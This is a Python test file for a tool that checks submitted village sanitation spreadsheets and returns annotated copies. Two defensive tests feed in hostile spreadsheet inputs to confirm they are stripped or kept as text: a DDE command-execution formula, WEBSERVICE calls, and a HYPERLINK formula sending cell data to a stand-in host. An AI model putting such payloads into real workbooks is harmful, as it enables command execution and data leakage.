"""The returned copy of a workbook: what is wrong stands in the cell, and mending it is enough."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.worksheet import Worksheet
from support import Home
from workbooks import delimited, ods, saved, xls

from ssk import sources
from ssk.cli import main
from ssk.ingest import PartResult, ingest
from ssk.workbooks import look, reply
from ssk.workbooks.template import EXAMPLE_ROW, HEADER_ROW, heading, samples, template, typed

FORM = sources.dataset("stbm.akses_desa")
COLUMN = {name: at for at, name in enumerate(FORM.fields, start=2)}
MISTAKES: list[tuple[str, dict[str, Any], str, str]] = [
    ("text in a number", {"jsp_kk": "dua ratus"}, "jsp_kk", "bukan angka"),
    ("required and empty", {"jumlah_kk": None}, "jumlah_kk", "wajib diisi"),
    ("unknown region", {"kode_wilayah": "62.77"}, "kode_wilayah", "tidak dikenal"),
    ("name of another region", {"nama_wilayah": "Kabupaten Kapuas"}, "nama_wilayah", "Seruyan"),
    ("village elsewhere", {"kode_desa": "62.08.01.2007"}, "kode_desa", "tidak terletak"),
    ("more than there is", {"jsp_kk": 300, "jssp_kk": 200}, "jssp_kk", "lebih besar daripada"),
    ("no such day", {"tanggal_data": "31 Februari 2025"}, "tanggal_data", "bukan tanggal"),
    ("never calculated", {"sharing_kk": "=J8-1"}, "sharing_kk", "tidak menyimpan nilai"),
]


def village(number: int) -> dict[str, str]:
    return {"kode_desa": f"62.07.01.{2000 + number}", "nama_desa": f"Desa {number}"}


def filled(rows: list[dict[str, Any]]) -> openpyxl.Workbook:
    """The template as a person leaves it."""
    book = template(FORM, "62.07")
    sheet = book.worksheets[0]
    sheet["B3"], sheet["B4"] = "Siti Aminah", "Dinas Kesehatan"
    [example] = samples(FORM, 1, "62.07")
    for row, given in enumerate(rows, start=EXAMPLE_ROW + 1):
        for name, field in FORM.fields.items():
            value = given[name] if name in given else typed(field, example[name])
            sheet.cell(row, COLUMN[name]).value = value
    return book


def send(home: Home, body: bytes, name: str = "kiriman.xlsx") -> tuple[PartResult, bytes]:
    """Take a file in; its result and the copy that came back."""
    path = home.path / name
    path.write_bytes(body)
    [result] = {r.reply: r for r in ingest(FORM.dataset_id, file=path)}.values()
    return result, Path(result.reply).read_bytes() if result.reply else b""


def opened(body: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(body))


def colour(sheet: Worksheet, row: int, column: int) -> str | None:
    fill = sheet.cell(row, column).fill
    return fill.fgColor.rgb if fill.fill_type else None


def text(sheet: Worksheet) -> str:
    return "\n".join(str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None)


BAD, TINT = reply.BAD_CELL.fgColor.rgb, reply.REFUSED_ROW.fgColor.rgb


def test_each_mistake_is_marked_where_it_is(home: Home) -> None:
    rows = [village(1), *({**village(n), **m[1]} for n, m in enumerate(MISTAKES, 2)), village(99)]
    result, copy = send(home, saved(filled(rows)))
    assert (result.outcome, result.loaded, result.quarantined) == ("ok", 2, len(MISTAKES))
    assert result.reply == str(home.path / "balasan" / "kiriman.balasan.xlsx")
    book = opened(copy)
    sheet = book["Akses desa"]
    for row, (_, _, column, reason) in enumerate(MISTAKES, start=EXAMPLE_ROW + 2):
        cell = sheet.cell(row, COLUMN[column])
        assert colour(sheet, row, COLUMN[column]) == BAD
        assert cell.comment and reason in cell.comment.text
        assert colour(sheet, row, COLUMN["keterangan"]) == TINT
    for row in (EXAMPLE_ROW + 1, EXAMPLE_ROW + 2 + len(MISTAKES)):
        assert {colour(sheet, row, at) for at in COLUMN.values()} == {None}
        assert not any(sheet.cell(row, at).comment for at in COLUMN.values())


def test_the_first_sheet_says_what_came_of_it(home: Home) -> None:
    rows = [village(1), *({**village(n), **m[1]} for n, m in enumerate(MISTAKES, 2))]
    book = opened(send(home, saved(filled(rows)))[1])
    sheet = book.worksheets[0]
    assert (sheet.title, book.active.title) == ("Hasil periksa", "Hasil periksa")
    assert [one.title for one in book if one.sheet_view.tabSelected] in ([], ["Hasil periksa"])
    facts = {str(row[0].value): row[1].value for row in sheet.iter_rows(max_row=9)}
    assert facts["Berkas"] == "kiriman.xlsx"
    assert facts["Pengirim"] == "Siti Aminah, Dinas Kesehatan"
    assert (facts["Baris diterima"], facts["Baris ditolak"]) == ("1", str(len(MISTAKES)))
    assert "seutuhnya" in str(facts["Langkah"])
    links = {c.hyperlink.location: c for row in sheet.iter_rows() for c in row if c.hyperlink}
    assert len(links) == len(MISTAKES), "a rule over several cells is one line"
    place = f"'Akses desa'!{look.letter(COLUMN['jsp_kk'])}{EXAMPLE_ROW + 2}"
    row = [cell.value for cell in sheet[links[place].row]]
    assert row[2:4] == ["Jamban sehat permanen (JSP)", "dua ratus"]
    assert "Tulis angka saja" in str(row[4])
    assert "(kosong)" in text(sheet)


def test_the_copy_that_is_mended_is_the_next_file(home: Home) -> None:
    """Drop-downs, stamp and rows are still there, and marks of the last round are not."""
    rows = [village(1), village(2) | {"jsp_kk": "dua"}, village(3) | {"kode_wilayah": "62.77"}]
    book = opened(send(home, saved(filled(rows)))[1])
    sheet = book["Akses desa"]
    assert len(sheet.data_validations.dataValidation) == len(FORM.fields)
    sheet.cell(EXAMPLE_ROW + 2, COLUMN["jsp_kk"]).value = 200
    result, second = send(home, saved(book), "perbaikan.xlsx")
    assert (result.loaded, result.quarantined) == (2, 1)
    book = opened(second)
    assert [s.title for s in book].count("Hasil periksa") == 1
    sheet = book["Akses desa"]
    marked = {(c.row, c.column) for row in sheet.iter_rows() for c in row if c.comment}
    assert marked == {(EXAMPLE_ROW + 3, COLUMN["kode_wilayah"])}
    assert colour(sheet, EXAMPLE_ROW + 2, COLUMN["jsp_kk"]) is None
    sheet.cell(EXAMPLE_ROW + 3, COLUMN["kode_wilayah"]).value = "62.07"
    result, _ = send(home, saved(book), "lagi.xlsx")
    assert (result.outcome, result.changed, result.loaded, result.quarantined) == ("ok", True, 3, 0)
    assert not result.reply


def test_rows_of_one_key_name_each_other(home: Home) -> None:
    rows = [village(1), *(village(n) for n in range(2, 9)), village(1) | {"jsp_kk": 100}]
    sheet = opened(send(home, saved(filled(rows)))[1])["Akses desa"]
    first, last = EXAMPLE_ROW + 1, EXAMPLE_ROW + 9
    for row, other in ((first, last), (last, first)):
        comment = sheet.cell(row, COLUMN["kode_desa"]).comment
        assert comment and f"sama dengan baris Akses desa!A{other}." in comment.text


def with_parts(body: bytes, parts: dict[str, str]) -> bytes:
    out = io.BytesIO(body)
    with zipfile.ZipFile(out, "a") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def test_nothing_that_runs_or_reaches_out_is_returned(home: Home) -> None:
    book = filled([village(1) | {"jsp_kk": "dua"}, village(2)])
    sheet = book.worksheets[0]
    sheet["A2"] = '=HYPERLINK("http://example.test/?"&B8,"klik")'
    sheet["A1"].hyperlink = "http://example.test/"
    sheet.cell(EXAMPLE_ROW + 2, COLUMN["puskesmas"]).value = "=1+1"
    book.defined_names["remote"] = openpyxl.workbook.defined_name.DefinedName(
        "remote", attr_text="'[1]Sheet'!$A$1"
    )
    for formula in ("cmd|'/c calc'!A0", "[1]Sheet!$A$1:$A$9", 'WEBSERVICE("http://example.test")'):
        rule = DataValidation("list", formula1=formula)
        rule.add("Z9")
        sheet.add_data_validation(rule)
    sheet.conditional_formatting.add(
        "A1:B2", openpyxl.formatting.rule.FormulaRule(formula=['WEBSERVICE("http://example.test")'])
    )
    body = with_parts(
        saved(book), {"xl/vbaProject.bin": "macro", "xl/externalLinks/externalLink1.xml": "<x/>"}
    )
    _, copy = send(home, body, "makro.xlsm")
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        names = archive.namelist()
        content = {name: archive.read(name).decode() for name in names if name.endswith("l")}
    assert not any("vba" in name or "externalLink" in name for name in names)
    for name, xml in content.items():
        assert "<f>" not in xml and "<f " not in xml, name
        for evil in ("example.test", "WEBSERVICE", "cmd|", "[1]"):
            assert evil not in xml, (name, evil)


def test_data_that_looks_like_a_formula_stays_text(home: Home) -> None:
    rows = [village(1) | {"puskesmas": "@SUM(1)", "jsp_kk": "-tiga"}]
    [example] = samples(FORM, 1, "62.07")
    lines = [[field.label for field in FORM.fields.values()]]
    lines += [[row.get(name, example[name]) for name in FORM.fields] for row in rows]
    lines[1][list(FORM.fields).index("nama_desa")] = "=cmd|'/c calc'!A0"
    _, copy = send(home, delimited(lines), "rumus.csv")
    cells = [c for sheet in opened(copy) for row in sheet.iter_rows() for c in row]
    said = {str(c.value): c for c in cells if c.value}
    assert all(c.data_type != "f" for c in cells)
    assert said["@SUM(1)"].quotePrefix and said["-tiga"].quotePrefix
    assert said["=cmd|'/c calc'!A0"].data_type == "s"


@pytest.mark.parametrize(("name", "write"), [("a.csv", delimited), ("a.ods", ods), ("a.xls", xls)])
def test_other_formats_come_back_as_a_workbook_that_can_be_sent(
    home: Home, name: str, write: Callable[[Any], bytes]
) -> None:
    [example] = samples(FORM, 1, "62.07")
    lines: list[list[Any]] = [["Diisi oleh", "Siti"], []]
    lines.append([field.label for field in FORM.fields.values()])
    for number in (1, 2, 3):
        row = example | village(number)
        lines.append([typed(field, row[field.name]) for field in FORM.fields.values()])
    lines[4][list(FORM.fields).index("jsp_kk")] = "dua"
    result, copy = send(home, write(lines), name)
    assert (result.loaded, result.quarantined) == (2, 1)
    book = opened(copy)
    sheet = book.worksheets[1]
    at = list(FORM.fields).index("jsp_kk") + 1
    assert (sheet.cell(5, at).value, colour(sheet, 5, at)) == ("dua", BAD)
    assert sheet.cell(4, at).value and sheet.cell(1, 2).value == "Siti"
    sheet.cell(5, at).value = 200
    result, _ = send(home, saved(book), "perbaikan.xlsx")
    assert (result.loaded, result.quarantined) == (3, 0)


def test_of_a_large_file_only_what_was_refused_comes_back(
    home: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reply, "MAX_ROWS", 3)
    rows = [village(1), village(2) | {"jsp_kk": "dua"}, village(3), village(4) | {"jsp_kk": "x"}]
    book = opened(send(home, saved(filled(rows)))[1])
    sheet = book["Baris ditolak"]
    assert [[c.value for c in row[:2]] for row in sheet.iter_rows()] == [
        ["Baris di berkas", "Kode wilayah"],
        [str(EXAMPLE_ROW + 2), "62.07"],
        [str(EXAMPLE_ROW + 4), "62.07"],
    ]
    assert colour(sheet, 3, COLUMN["jsp_kk"]) == BAD
    assert "Jangan kirim lembar ini" in text(book["Hasil periksa"])


def test_more_faults_than_a_person_mends(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reply, "MAX_FAULTS", 2)
    rows = [village(n) | {"jsp_kk": "dua"} for n in range(1, 6)]
    result, copy = send(home, saved(filled([village(9), *rows])))
    assert result.quarantined == 5
    sheet = opened(copy).worksheets[0]
    assert "Dan 3 kesalahan lagi" in text(sheet) and "\n5\n" in text(sheet)


def test_a_merged_cell_is_marked_where_it_is_written(home: Home) -> None:
    book = filled([village(1), village(2), village(3), village(4)])
    sheet = book.worksheets[0]
    column = COLUMN["nama_wilayah"]
    sheet.cell(EXAMPLE_ROW + 1, column).value = "Kabupaten Kapuas"
    sheet.merge_cells(
        start_row=EXAMPLE_ROW + 1, end_row=EXAMPLE_ROW + 3, start_column=column, end_column=column
    )
    result, copy = send(home, saved(book))
    assert result.quarantined == 3
    sheet = opened(copy)["Akses desa"]
    assert sheet.cell(EXAMPLE_ROW + 1, column).comment
    assert colour(sheet, EXAMPLE_ROW + 1, column) == BAD


def test_a_file_of_another_shape_gets_its_reason(home: Home) -> None:
    book = filled([village(1)])
    book.worksheets[0].cell(HEADER_ROW, COLUMN["jumlah_kk"]).value = "Banyaknya"
    book.worksheets[0].cell(HEADER_ROW, COLUMN["bulan"]).value = "Periode"
    result, copy = send(home, saved(book))
    assert result.outcome == "malformed"
    sheet = opened(copy)["Hasil periksa"]
    said = text(sheet)
    assert "'Jumlah KK'" in said and "'Bulan data'" in said
    assert "Perbaiki menurut catatan" in said


def test_columns_that_are_not_asked_for_are_named(home: Home) -> None:
    book = filled([village(1), village(2) | {"jsp_kk": "dua"}])
    book.worksheets[0].cell(HEADER_ROW, len(FORM.fields) + 2).value = "Nomor HP"
    assert "Nomor HP" in text(opened(send(home, saved(book))[1])["Hasil periksa"])


def test_check_says_at_once_what_came_of_a_file(home: Home) -> None:
    good, bad = home.path / "baik.xlsx", home.path / "salah.xlsx"
    good.write_bytes(saved(filled([village(1)])))
    bad.write_bytes(saved(filled([village(1), village(2) | {"jsp_kk": 300, "jssp_kk": 200}])))
    done = CliRunner().invoke(main, ["inbox", "check", str(good), "--sender", "Budi"])
    assert done.exit_code == 0, done.output
    assert "1 rows accepted, 0 refused" in done.output
    done = CliRunner().invoke(main, ["inbox", "check", str(bad)])
    assert done.exit_code == 3
    assert "1 rows accepted, 1 refused" in done.output
    assert "lebih besar daripada jumlah KK" in done.output
    assert "salah.balasan.xlsx" in done.output.replace("\n", "")
    told = CliRunner().invoke(main, ["inbox", "check", str(bad), "--json"])
    found = json.loads(told.output)
    assert found["parts"][0]["quarantined"] == 1
    assert found["reasons"][0]["row_count"] == 1
    assert "jumlah_kk" in found["reasons"][0]["columns"]


def test_check_finds_out_what_a_file_is_of(home: Home) -> None:
    """By the stamp, by the folder, by the headings; else it asks."""
    [example] = samples(FORM, 1, "62.07")
    lines = [[heading(FORM, f) for f in FORM.fields.values()], [*example.values()]]
    folder = home.path / "inbox" / "stbm" / "akses_desa"
    folder.mkdir(parents=True)
    for path in (folder / "b.csv", home.path / "c.csv"):
        path.write_bytes(delimited(lines))
        done = CliRunner().invoke(main, ["inbox", "check", str(path)])
        assert done.exit_code == 0, done.output
        assert done.output.startswith("stbm.akses_desa 62.07/2025-03: ok")
    (home.path / "d.csv").write_text("satu;dua\n1;2\n")
    done = CliRunner().invoke(main, ["inbox", "check", str(home.path / "d.csv")])
    assert done.exit_code == 3
    assert "tidak cocok dengan satu pun formulir" in done.output
    named = [str(home.path / "d.csv"), "--dataset", FORM.dataset_id]
    done = CliRunner().invoke(main, ["inbox", "check", *named])
    assert done.exit_code == 3
    assert "'Kode wilayah'" in done.output or "baris judul" in done.output
    assert (home.path / "balasan" / "d.csv.balasan.xlsx").exists()
